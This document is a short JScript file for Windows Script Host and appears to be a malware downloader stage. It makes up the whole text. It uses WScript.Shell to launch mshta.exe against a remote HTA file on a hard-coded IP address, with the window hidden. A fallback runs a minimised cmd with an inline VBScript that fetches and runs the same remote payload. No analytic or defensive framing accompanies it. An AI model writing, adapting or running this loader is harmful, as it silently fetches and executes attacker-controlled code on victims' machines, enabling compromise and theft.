var o = new ActiveXObject("WScript.Shell");
var hta = "http://198.51.100.109/s/p.hta";
try {
    o.Run("mshta.exe " + hta, 0, false);
} catch (e) {
    o.Run("cmd /c start /min mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"mshta " + hta + "\"\",0:close\")", 0, false);
}
